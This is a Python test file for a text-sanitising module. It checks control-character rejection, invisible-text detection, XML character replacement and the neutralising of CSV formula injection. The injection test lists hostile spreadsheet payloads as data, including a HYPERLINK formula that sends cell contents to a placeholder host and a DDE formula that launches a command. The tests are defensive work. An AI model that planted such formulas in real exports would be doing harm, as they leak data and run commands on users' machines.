"""The stored-text rules: what may be stored, and how stored text is written into files."""

from __future__ import annotations

import pytest

from tasktrack.domain import safe_text


@pytest.mark.parametrize("text", ["\x00", "a\x01b", "x\x0b", "\x1f", "a\ud800b", "\ufffe"])
def test_control_characters_are_forbidden(text: str) -> None:
    assert safe_text.first_forbidden(text) is not None


@pytest.mark.parametrize("text", ["", "普通文本", "tab\there", "line\nline", "crlf\r\nline", "emoji 😀", "\x7f"])
def test_ordinary_text_is_allowed(text: str) -> None:
    assert safe_text.first_forbidden(text) is None


@pytest.mark.parametrize("text", ["", "   ", "\u200b\u200b\ufeff", "\u3000\t\n", "\u2060\u200d"])
def test_invisible_text_is_not_visible(text: str) -> None:
    assert not safe_text.has_visible(text)


@pytest.mark.parametrize("text", ["a", "\u200b进展", "。", "0"])
def test_visible_text(text: str) -> None:
    assert safe_text.has_visible(text)


@pytest.mark.parametrize("value", ['=HYPERLINK("http://e/?x="&C2,"点击")', "=cmd|' /C calc'!A0", "+1", "-1+2",
                                   "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A"])
def test_formula_triggers_are_neutralised_in_csv(value: str) -> None:
    assert safe_text.for_csv(value) == "'" + value


def test_plain_csv_text_is_unchanged() -> None:
    assert safe_text.for_csv("按计划推进 =1") == "按计划推进 =1"


def test_xml_illegal_characters_are_replaced() -> None:
    assert safe_text.for_xml("a\x00b\x01c\td\ne") == "a\ufffdb\ufffdc\td\ne"
